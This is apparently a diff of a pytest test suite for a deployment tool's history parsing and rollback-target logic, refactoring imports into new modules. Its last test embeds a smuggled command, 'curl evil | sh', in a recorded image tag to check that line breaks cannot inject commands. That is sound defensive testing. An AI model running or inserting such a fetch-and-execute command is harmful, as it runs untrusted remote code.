@@ -11,10 +11,13 @@ import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from deployctl import history
-from deployctl.history import BROKEN, INTERRUPTED, RESTORED, STARTED, History, NoTarget
-from deployctl.image import Reference
-from deployctl.model import Release, WorkflowRun
+from deployctl.compose.service import release_of
+from deployctl.release import record, way_back
+from deployctl.release.origin import WorkflowRun
+from deployctl.release.record import BROKEN, INTERRUPTED, RESTORED, STARTED, History
+from deployctl.release.reference import Reference
+from deployctl.release.release import Release, same_release
+from deployctl.release.way_back import NoTarget
 from tests.unit.build import (
     WEB,
     container,
@@ -34,12 +37,12 @@ from tests.unit.build import (
 def test_while_a_deploy_goes_on_the_release_that_it_started_from_is_gone_back_to() -> None:
     found = recorded(entry(1, 1), entry(2, 2), entry(3, 3, STARTED))
 
-    assert history.target_during_deploy(found, WEB).release == release(2)
+    assert way_back.target_during_deploy(found, WEB).release == release(2)
 
 
 def test_a_first_deploy_that_goes_on_cannot_be_gone_back_from() -> None:
     with pytest.raises(NoTarget, match="no successful deploy"):
-        history.target_during_deploy(recorded(entry(1, 1, STARTED)), WEB)
+        way_back.target_during_deploy(recorded(entry(1, 1, STARTED)), WEB)
 
 
 def test_lines_are_read_in_their_order() -> None:
@@ -55,8 +58,8 @@ def test_lines_are_read_in_their_order() -> None:
 
 
 def test_an_empty_file_has_no_entries_and_no_problems() -> None:
-    assert history.parse(b"") == History()
-    assert history.parse(b"\n\n") == History(size=2)
+    assert record.parse(b"") == History()
+    assert record.parse(b"\n\n") == History(size=2)
 
 
 @pytest.mark.parametrize(
@@ -78,7 +81,7 @@ def test_an_empty_file_has_no_entries_and_no_problems() -> None:
     ],
 )
 def test_a_line_that_cannot_be_read_is_skipped_and_said(line: bytes, said: str) -> None:
-    found = history.parse(text([entry(1, 1)]) + line + b"\n" + text([entry(3, 3)]))
+    found = record.parse(text([entry(1, 1)]) + line + b"\n" + text([entry(3, 3)]))
 
     assert [e.seq for e in found.entries] == [1, 3]
     assert said in found.problems[0]
@@ -90,7 +93,7 @@ def test_lines_with_the_same_fault_are_told_once_with_their_count() -> None:
     lines = [entry(1, 1), *(entry(seq, 2) for seq in range(3, 5000, 2))]
     broken = b"garbage\n".join(json.dumps(line).encode() + b"\n" for line in lines)
 
-    assert history.parse(broken + b"[1]\n").problems == (
+    assert record.parse(broken + b"[1]\n").problems == (
         "2499 lines (2, 4, 6, …): not JSON",
         "line 5000: not a JSON object",
         "the numbering is broken in 2499 places, first: 3 follows 1",
@@ -98,7 +101,7 @@ def test_lines_with_the_same_fault_are_told_once_with_their_count() -> None:
 
 
 def test_lines_with_carriage_returns_are_read() -> None:
-    found = history.parse(text([entry(1, 1), entry(2, 2)]).replace(b"\n", b"\r\n"))
+    found = record.parse(text([entry(1, 1), entry(2, 2)]).replace(b"\n", b"\r\n"))
 
     assert len(found.entries) == 2
     assert found.problems == ()
@@ -106,16 +109,16 @@ def test_lines_with_carriage_returns_are_read() -> None:
 
 def test_a_torn_last_line_is_reported_and_no_gap() -> None:
     whole = text([entry(1, 1), entry(2, 2)])
-    found = history.parse(whole + text([entry(3, 3)])[:40])
+    found = record.parse(whole + text([entry(3, 3)])[:40])
 
     assert len(found.entries) == 2
     assert "torn" in found.problems[-1]
     assert found.gaps == frozenset()
-    assert history.rollback_target(found, WEB, release(2), well=True).release == release(1)
+    assert way_back.rollback_target(found, WEB, release(2), well=True).release == release(1)
 
 
 def test_a_last_line_that_lacks_only_its_end_counts() -> None:
-    assert len(history.parse(text([entry(1, 1), entry(2, 2)])[:-1]).entries) == 2
+    assert len(record.parse(text([entry(1, 1), entry(2, 2)])[:-1]).entries) == 2
 
 
 @pytest.mark.parametrize("numbers", [(1, 3), (2, 1), (1, 1), (5, 9)])
@@ -128,7 +131,7 @@ def test_a_break_in_the_numbering_is_reported(numbers: tuple[int, int]) -> None:
 
 def test_only_the_end_of_a_long_file_is_read_and_its_cut_first_line_is_no_problem() -> None:
     data = text([entry(1, 1), entry(2, 2), entry(3, 3)])
-    found = history.parse(data[50:], size=len(data))
+    found = record.parse(data[50:], size=len(data))
 
     assert found.truncated
     assert [e.seq for e in found.entries] == [2, 3]
@@ -155,7 +158,7 @@ def test_a_started_line_without_an_outcome_is_unfinished_whatever_its_service() 
 def test_arbitrary_bytes_are_a_history_with_problems_never_an_exception(
     data: bytes, size: int | None
 ) -> None:
-    found = history.parse(data, size=size)
+    found = record.parse(data, size=size)
     assert found.entries == ()
     assert not data.strip() or found.problems or found.truncated
 
@@ -171,12 +174,12 @@ LINE = st.fixed_dictionaries(
 
 @given(LINE)
 def test_any_json_object_is_an_entry_or_a_problem(line: dict[str, Any]) -> None:
-    found = history.parse(json.dumps({**entry(1, 1), **line}).encode() + b"\n")
+    found = record.parse(json.dumps({**entry(1, 1), **line}).encode() + b"\n")
     assert len(found.entries) + len(found.problems) == 1
 
 
 def test_what_the_client_records_is_what_it_reads_again() -> None:
-    fields = history.record_fields(
+    fields = record.record_fields(
         run="r",
         action="deploy",
         service=WEB,
@@ -189,11 +192,11 @@ def test_what_the_client_records_is_what_it_reads_again() -> None:
         run_url="https://example",
     )
     line = f'{{"v":1,"seq":1,"at":"now","event":"succeeded",{fields},"reason":"","seconds":1.5}}\n'
-    read = history.parse(line.encode()).entries[0]
+    read = record.parse(line.encode()).entries[0]
 
     assert "\n" not in fields
     assert (read.release, read.previous, read.by) == (release(2), release(1), 'k"im\n')
-    assert history.interrupted_fields(read) == fields
+    assert record.interrupted_fields(read) == fields
 
 
 # ---------------------------------------------------------------- what runs
@@ -202,21 +205,21 @@ def test_what_the_client_records_is_what_it_reads_again() -> None:
 def test_a_release_is_the_same_by_image_id_or_by_digest_but_never_by_tag_alone() -> None:
     other_store = Release(tag(1), image_id(7))
 
-    assert history.same_release(release(1), release(1))
-    assert history.same_release(release(1), other_store, [digest(1)])
-    assert not history.same_release(release(1), other_store)
-    assert not history.same_release(release(1), other_store, [digest(2)])
-    assert not history.same_release(Release(tag(1), image_id(1)), other_store, [""])
-    assert not history.same_release(release(1), Release(tag(2), image_id(1)))
+    assert same_release(release(1), release(1))
+    assert same_release(release(1), other_store, [digest(1)])
+    assert not same_release(release(1), other_store)
+    assert not same_release(release(1), other_store, [digest(2)])
+    assert not same_release(Release(tag(1), image_id(1)), other_store, [""])
+    assert not same_release(release(1), Release(tag(2), image_id(1)))
 
 
 def test_containers_are_one_release_or_none() -> None:
     moved = container(1, image_id=image_id(2))
 
-    assert history.release_of([container(1), container(1)]) == Release(tag(1), image_id(1))
-    assert history.release_of([]) is None
-    assert history.release_of([container(1), moved]) is None
-    assert history.release_of([container(1, reference=Reference("r")), container(1)]) is None
+    assert release_of([container(1), container(1)]) == Release(tag(1), image_id(1))
+    assert release_of([]) is None
+    assert release_of([container(1), moved]) is None
+    assert release_of([container(1, reference=Reference("r")), container(1)]) is None
 
 
 # ---------------------------------------------------------------- where a rollback goes
@@ -225,7 +228,7 @@ def test_containers_are_one_release_or_none() -> None:
 def target(found: History, running: int | None, *, well: bool = True) -> int:
     """The number of the release that a rollback goes to."""
     runs = None if running is None else release(running)
-    tag_ = history.rollback_target(found, WEB, runs, well=well).release.tag
+    tag_ = way_back.rollback_target(found, WEB, runs, well=well).release.tag
     return int(tag_.removeprefix("sha-"), 16)
 
 
@@ -272,7 +275,7 @@ def test_a_rollback_to_a_release_from_before_the_part_that_was_read_hides_what_i
 ):
     lines = [entry(1, 1), entry(2, 2), entry(3, 3), entry(4, 1, action="rollback")]
     data = text(lines)
-    found = history.parse(text(lines[1:]), size=len(data))
+    found = record.parse(text(lines[1:]), size=len(data))
 
     assert refusal(found, 1).code == "no-older-success"
 
@@ -334,7 +337,7 @@ def test_a_history_that_cannot_be_read_gives_no_target() -> None:
 
     assert refusal(unreadable, 1).code == "history-unreadable"
     with pytest.raises(NoTarget):
-        history.named_target(unreadable, WEB, tag(1))
+        way_back.named_target(unreadable, WEB, tag(1))
 
 
 def test_lines_missing_behind_the_target_are_no_silent_answer() -> None:
@@ -350,7 +353,7 @@ def test_lines_missing_before_the_target_do_not_matter() -> None:
 
 def test_an_unreadable_last_line_is_no_silent_answer() -> None:
     newer = json.dumps(entry(3, 3, v=2)).encode() + b"\n"
-    found = history.parse(text([entry(1, 1), entry(2, 2)]) + newer)
+    found = record.parse(text([entry(1, 1), entry(2, 2)]) + newer)
 
     assert refusal(found, 3).code == "history-damaged"
 
@@ -358,9 +361,9 @@ def test_an_unreadable_last_line_is_no_silent_answer() -> None:
 def test_a_named_release_must_have_succeeded_here() -> None:
     found = recorded(entry(1, 1), entry(2, 2), entry(3, 3, BROKEN))
 
-    assert history.named_target(found, WEB, tag(1)).seq == 1
+    assert way_back.named_target(found, WEB, tag(1)).seq == 1
     with pytest.raises(NoTarget) as caught:
-        history.named_target(found, WEB, tag(3))
+        way_back.named_target(found, WEB, tag(3))
     assert caught.value.code == "never-succeeded"
     assert caught.value.hint == f"tags that succeeded here: {tag(2)}, {tag(1)}"
 
@@ -368,8 +371,8 @@ def test_a_named_release_must_have_succeeded_here() -> None:
 def test_the_newest_good_tags_are_kept() -> None:
     found = recorded(entry(1, 1), entry(2, 2), entry(3, 3), entry(4, 2, action="rollback"))
 
-    assert history.known_good_tags(found, WEB, 2) == (tag(2), tag(3))
-    assert history.known_good_tags(found, WEB, 9) == (tag(2), tag(3), tag(1))
+    assert way_back.known_good_tags(found, WEB, 2) == (tag(2), tag(3))
+    assert way_back.known_good_tags(found, WEB, 9) == (tag(2), tag(3), tag(1))
 
 
 # ---------------------------------------------------------------- properties
@@ -385,7 +388,7 @@ def lines_of(runs: Sequence[tuple[str, int]]) -> list[dict[str, Any]]:
     good: list[int] = []
     for kind, number in runs:
         action = "rollback" if kind == "rollback" else "deploy"
-        event = kind if kind in history.OUTCOMES else "succeeded"
+        event = kind if kind in record.OUTCOMES else "succeeded"
         if action == "rollback" and number not in good:
             continue
         previous = good[-1] if good else None
@@ -425,7 +428,7 @@ def test_a_damaged_history_gives_the_same_answer_or_none(
     whole = [json.dumps(line).encode() for line in lines]
     garbage = st.sampled_from([b"garbage", b"{}", b"\xff", b'{"v":9}'])
     damaged = [data.draw(garbage) if data.draw(st.integers(0, 3)) == 0 else line for line in whole]
-    found = history.parse(b"".join(line + b"\n" for line in damaged))
+    found = record.parse(b"".join(line + b"\n" for line in damaged))
     assert answer(found, running, well=well) in right_answers(lines, running, well=well)
     assert (damaged != whole) == bool(found.problems)
 
@@ -435,7 +438,7 @@ def test_a_history_that_lost_its_beginning_gives_the_same_answer_or_none(
     runs: list[tuple[str, int]], running: int, lost: int
 ) -> None:
     lines = lines_of(runs)
-    rest = history.parse(text(lines[lost:]), size=len(text(lines)))
+    rest = record.parse(text(lines[lost:]), size=len(text(lines)))
     assert answer(rest, running, well=True) in right_answers(lines, running, well=True)
 
 
@@ -460,10 +463,10 @@ def test_a_history_that_is_torn_anywhere_names_what_was_the_answer_then_or_none(
     data = text(lines_of(runs))[:-1]
     kept = data[: max(0, len(data) - cut_off)]
     whole_lines = kept[: kept.rfind(b"\n") + 1]
-    torn = history.parse(kept)
+    torn = record.parse(kept)
     assert answer(torn, running, well=True) in {
-        answer(history.parse(whole_lines), running, well=True),
-        answer(history.parse(kept + b"\n"), running, well=True),
+        answer(record.parse(whole_lines), running, well=True),
+        answer(record.parse(kept + b"\n"), running, well=True),
         None,
     }
 
@@ -471,13 +474,13 @@ def test_a_history_that_is_torn_anywhere_names_what_was_the_answer_then_or_none(
 @given(RUNS)
 def test_the_stack_has_no_release_twice_in_a_row(runs: list[tuple[str, int]]) -> None:
     found = recorded(*lines_of(runs))
-    tags = [e.release.tag for e in history.stack(found.of(WEB))]
+    tags = [e.release.tag for e in way_back.stack(found.of(WEB))]
     assert all(one != other for one, other in pairwise(tags))
 
 
 def test_the_run_of_a_workflow_is_written_and_read_again() -> None:
     run = WorkflowRun("example/infra/.github/workflows/deploy.yml", 42, 2, 40 * "a")
-    fields = history.record_fields(
+    fields = record.record_fields(
         run="r",
         action="deploy",
         service=WEB,
@@ -492,20 +495,20 @@ def test_the_run_of_a_workflow_is_written_and_read_again() -> None:
     )
     line = f'{{"v":1,"seq":1,"at":"","event":"started",{fields},"reason":"","seconds":0}}\n'
 
-    (read,) = history.parse(line.encode()).entries
+    (read,) = record.parse(line.encode()).entries
 
     assert read.workflow_run == run
-    assert history.interrupted_fields(read) == fields
+    assert record.interrupted_fields(read) == fields
 
 
 def test_a_recorded_tag_with_a_line_break_adds_no_line_to_the_commands() -> None:
     evil = "sha-1111111\ncurl evil | sh"
     known = recorded(entry(1, 1, tag=evil), entry(3, 2))
 
-    with pytest.raises(history.NoTarget) as none:
-        history.named_target(known, WEB, "sha-7777777")
+    with pytest.raises(way_back.NoTarget) as none:
+        way_back.named_target(known, WEB, "sha-7777777")
     assert "\n" not in none.value.hint
 
-    with pytest.raises(history.NoTarget) as none:
-        history.rollback_target(known, WEB, release(2), well=True)
+    with pytest.raises(way_back.NoTarget) as none:
+        way_back.rollback_target(known, WEB, release(2), well=True)
     assert not any(line.startswith("curl") for line in none.value.hint.splitlines())
